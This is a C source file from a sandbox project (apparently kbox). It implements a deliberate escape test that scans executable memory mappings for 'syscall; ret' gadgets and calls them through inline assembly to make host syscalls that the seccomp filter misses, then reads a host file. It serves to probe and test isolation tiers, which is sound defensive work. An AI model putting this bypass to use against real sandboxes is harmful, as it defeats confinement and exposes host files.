/*
 * gadget.c: a hostile program's way out of an in-process tier, tried on
 * purpose (docs/security.md, "Which tier confines what").
 *
 * The in-process tiers (trap, rewrite) run the guest inside kbox's own
 * process, and their seccomp filter lets kbox's own code make host
 * syscalls. A guest that finds a `syscall; ret` sequence in an executable
 * mapping that is not its own (kbox's text, its libc) and calls it makes
 * a host syscall the filter does not trap. gadget_read tries exactly
 * that: every such sequence in every readable executable mapping of
 * /proc/self/maps other than the program's own, openat(path) then read.
 *
 * Under the seccomp tier the guest is a process of its own: its maps hold
 * only its own code, and every syscall from any address is filtered, so
 * nothing of the host is reached.
 *
 * Used by kbox-probe.c (probe "inproc.gadget") and by the hostile test
 * program tests/guest/hostile/hostile.c.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

/* call_gadget calls a `syscall; ret` at g with the syscall's number and
 * three arguments. The red zone below the stack pointer is stepped over
 * first: the call's return address must not overwrite the compiler's. */
static long call_gadget(const void *g, long nr, long a1, long a2, long a3)
{
#if defined(__x86_64__)
	long ret;
	register long r10 __asm__("r10") = 0;
	__asm__ volatile("sub $128, %%rsp\n\t"
			 "call *%[g]\n\t"
			 "add $128, %%rsp"
			 : "=a"(ret)
			 : [g] "r"(g), "a"(nr), "D"(a1), "S"(a2), "d"(a3), "r"(r10)
			 : "rcx", "r11", "memory", "cc");
	return ret;
#else
	(void)g; (void)nr; (void)a1; (void)a2; (void)a3;
	return -ENOSYS;
#endif
}

/* gadget_read reads up to n-1 bytes of the host file path through a
 * gadget outside the program's own code. It returns the count read (buf
 * NUL-terminated) when a gadget opened the file, or -1 with a reason in
 * why: how many mappings and gadgets it found and what the last try gave. */
int gadget_read(const char *path, char *buf, size_t n, char *why, size_t wn)
{
	char self[4096] = "";
	ssize_t sl = readlink("/proc/self/exe", self, sizeof self - 1);
	if (sl > 0)
		self[sl] = 0;
	FILE *maps = fopen("/proc/self/maps", "r");
	if (!maps) {
		snprintf(why, wn, "/proc/self/maps: %s", strerror(errno));
		return -1;
	}
	char line[4096 + 128];
	int mappings = 0, gadgets = 0;
	long last = 0;
	while (fgets(line, sizeof line, maps)) {
		unsigned long lo, hi;
		char perms[8], file[4096] = "";
		if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %4095[^\n]", &lo, &hi, perms, file) < 3)
			continue;
		if (perms[0] != 'r' || perms[2] != 'x')
			continue; /* execute-only ([vsyscall]) faults when read */
		const char *f = file;
		while (*f == ' ')
			f++;
		if (*self && strcmp(f, self) == 0)
			continue; /* the program's own code: filtered everywhere */
		mappings++;
		for (const unsigned char *p = (const unsigned char *)lo; p + 3 <= (const unsigned char *)hi; p++) {
			if (p[0] != 0x0f || p[1] != 0x05 || p[2] != 0xc3)
				continue;
			if (++gadgets > 64)
				break;
			long fd = call_gadget(p, SYS_openat, AT_FDCWD, (long)path, O_RDONLY);
			last = fd;
			if (fd < 0)
				continue;
			long k = call_gadget(p, SYS_read, fd, (long)buf, (long)n - 1);
			call_gadget(p, SYS_close, fd, 0, 0);
			if (k < 0)
				k = 0;
			buf[k] = 0;
			fclose(maps);
			snprintf(why, wn, "host file opened through `syscall; ret` at %p (%s)", (const void *)p, *f ? f : "anonymous");
			return (int)k;
		}
	}
	fclose(maps);
	snprintf(why, wn, "%d executable mappings besides the program's, %d gadgets tried, last openat %ld", mappings, gadgets, last);
	return -1;
}
